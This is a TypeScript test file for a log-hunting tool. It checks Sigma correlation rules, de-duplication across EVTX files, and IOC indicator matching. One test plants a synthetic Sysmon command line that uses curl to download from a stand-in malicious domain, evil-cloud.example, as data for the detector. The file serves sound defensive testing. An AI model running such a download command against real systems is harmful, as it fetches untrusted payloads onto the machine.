import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { runHunt } from '../../src/hunt/index.js';
import { RULE_WHOAMI, evtxOf, makeCase, sysmonEvents, whoamiBurstRule } from './fixtures.js';

const CORRELATION_ID = '6f1d4a4e-3333-4333-8333-000000000003';

test('correlations see the base-rule hits of every file and worker, de-duplicated, and fire once', async () => {
  const c = makeCase();
  try {
    c.put('rules/corr.yml', whoamiBurstRule(CORRELATION_ID));
    // 10 whoami on ws1 over 30 minutes, split over two files (5 each): only both together reach 8.
    const events = sysmonEvents('ws1', 30);
    c.put('logs/a/Sysmon-1.evtx', evtxOf(events.slice(0, 15)));
    c.put('logs/b/Sysmon-2.evtx', evtxOf(events.slice(15)));
    // A backup copy of the first file must not add hits.
    c.put('logs/c/Sysmon-1-copy.evtx', evtxOf(events.slice(0, 15)));
    // Another host with 5 whoami stays below the threshold.
    c.put('logs/d/Sysmon.evtx', evtxOf(sysmonEvents('ws2', 15)));
    // ... even with a shadow copy beside it (5 + 5 duplicates would reach 8 without de-duplication).
    c.put('logs/d/shadow/Sysmon.evtx', evtxOf(sysmonEvents('ws2', 15)));
    const r = await runHunt({
      paths: [join(c.dir, 'logs')],
      sigma: [join(c.dir, 'rules')],
      noDwellRules: true,
      quiet: true,
      workers: 2,
    });
    const corr = r.detections.filter((d) => d.rule.id === CORRELATION_ID);
    assert.equal(corr.length, 1, JSON.stringify(corr.map((d) => [d.host, d.correlation?.value])));
    assert.equal(corr[0]!.host, 'ws1');
    assert.equal(corr[0]!.rule.level, 'critical');
    // Fires when the count reaches the threshold: it needs hits from both files (5 each).
    assert.ok((corr[0]!.correlation?.value ?? 0) >= 8);
    assert.equal(r.detections.filter((d) => d.rule.id === RULE_WHOAMI).length, 15);
    assert.ok(r.summary.duplicatesDropped >= 10);
    assert.equal(r.ruleStats.find((s) => s.ruleId === CORRELATION_ID)?.hits, 1);
  } finally {
    c.cleanup();
  }
});

/** A one-thread hunt of the case's logs/ with its rules (not Dwell's) and one indicator file. */
function huntWithIocs(c: ReturnType<typeof makeCase>, iocs: string) {
  return runHunt({
    paths: [join(c.dir, 'logs')],
    sigma: [c.rules],
    noDwellRules: true,
    quiet: true,
    workers: 1,
    iocs: [iocs],
  });
}

test('IOC files are matched on every record and reported as ioc: detections', async () => {
  const c = makeCase();
  try {
    // Three command lines reach a cloud-storage domain named by an indicator.
    const events = sysmonEvents('ws1', 9).map((e, i) =>
      i % 3 === 1
        ? {
            ...e,
            data: { ...(e.data as object), CommandLine: `curl -o x https://cdn.evil-cloud.example/p${i}` },
          }
        : e,
    );
    c.put('logs/Sysmon.evtx', evtxOf(events));
    const iocs = c.put(
      'iocs.csv',
      'type,value,description,source\ndomain,evil-cloud.example,test indicator,unit test\n',
    );
    const r = await huntWithIocs(c, iocs);
    const hits = r.detections.filter((d) => d.rule.id.startsWith('ioc:'));
    assert.equal(hits.length, 3);
    assert.ok(hits.every((d) => d.host === 'ws1' && d.rule.level === 'high'));
  } finally {
    c.cleanup();
  }
});

test('problems in an IOC file are input warnings (shown by default), within the warnings cap', async () => {
  const c = makeCase();
  try {
    c.put('logs/Sysmon.evtx', evtxOf(sysmonEvents('ws1', 3)));
    // One good indicator, then 12,000 rows of an unknown type: a broken feed must not flood the warnings.
    const bad = Array.from({ length: 12_000 }, (_, i) => `nonsense,value-${i},,\n`).join('');
    const iocs = c.put('iocs.csv', `type,value,description,source\ndomain,evil-cloud.example,,\n${bad}`);
    const r = await huntWithIocs(c, iocs);
    const ioc = r.warnings.filter((w) => w.reason.startsWith('IOC: '));
    assert.ok(ioc.length > 0, 'the IOC file problems are reported');
    assert.ok(ioc.every((w) => w.kind === 'input'));
    assert.match(ioc[0]!.reason, /iocs\.csv:\d+: /);
    assert.ok(r.warnings.length <= 10_001, `${r.warnings.length} warnings`);
    assert.ok(r.warnings.some((w) => /more input warnings not listed/.test(w.reason)));
  } finally {
    c.cleanup();
  }
});
